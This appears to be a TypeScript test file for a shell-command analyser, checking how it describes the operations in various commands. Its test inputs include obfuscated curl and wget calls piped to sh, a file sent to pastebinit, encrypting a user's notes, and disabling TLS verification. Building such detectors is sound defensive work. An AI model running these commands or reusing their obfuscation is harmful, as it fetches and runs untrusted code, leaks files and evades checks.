import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

// Calls that no case of corpus/ makes: what each does, as it is told.
test.each<[string, readonly string[]]>([
  ["awk -f run.awk", ["1:1 evaluate unknown ~⟨?⟩ ← file run.awk"]],
  ["wmctrl -l > /tmp/x", ["1:1 capture window-titles", "1:1 write-file ⟨/tmp/x⟩ with ~⟨?⟩ ← output of wmctrl"]],
  ["ccrypt -K x ~/notes.txt", ["1:1 encrypt-files ⟨~/notes.txt⟩"]],
  ["printf 'd\\ni\\n' | tac | sh", ["1:25 evaluate shell ⟨i\nd⟩"]],
  [
    "cat ~/notes.txt | pastebinit",
    ["1:1 read-file ⟨~/notes.txt⟩", "1:19 send http to ⟨pastebinit⟩ of ~⟨?⟩ ← file ~/notes.txt"],
  ],
  ["pipenv install requests", ["1:1 install pipenv ⟨requests⟩ registry"]],
  [
    "git clone -c http.sslVerify=false https://a.example/x.git",
    ["1:1 disable-safeguard tls-verification", "1:1 download ⟨https://a.example/x.git⟩ to ⟨x⟩"],
  ],
  [
    "X='c.u_r.l'; ${X//[._]/} https://a.example/x | sh",
    ["1:14 download ⟨https://a.example/x⟩", "1:48 evaluate shell ~⟨?⟩ ← network https://a.example/x"],
  ],
  ["X='w.get'; ${X/[._]/} https://a.example/x", ["1:12 download ⟨https://a.example/x⟩ to ⟨x⟩"]],
  ["X=Sh; ${X,} -c id", ["1:7 evaluate shell ⟨id⟩"]],
  ["env -S 'curl https://a.example/x'", ["1:1 download ⟨https://a.example/x⟩"]],
  ["gksudo id", ["1:1 escalate password-prompt"]],
  ["$(echo 'c.u_r.l' | sed 's/[_.]//g') https://a.example/x", ["1:1 download ⟨https://a.example/x⟩"]],
])("%s", (text, expected) => {
  expect(tellShell(text).operations).toEqual(expected);
});
